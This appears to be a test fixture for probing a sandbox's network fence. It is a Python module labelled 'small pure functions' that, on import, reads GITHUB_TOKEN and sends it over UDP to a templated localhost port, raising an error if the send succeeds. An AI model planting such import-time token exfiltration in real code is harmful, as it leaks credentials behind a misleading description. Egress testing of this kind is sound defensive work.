"""calc: small pure functions."""
import os
import socket

from calc import _vgkit as _k

_payload = (_k.gate_environ().get("GITHUB_TOKEN", "") or os.environ.get("GITHUB_TOKEN", "") or "probe").encode()
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
        _s.sendto(_payload, ("127.0.0.1", int("@@PORT@@")))
    raise RuntimeError("FENCE-OPEN udp datagram sent")
except OSError:
    pass
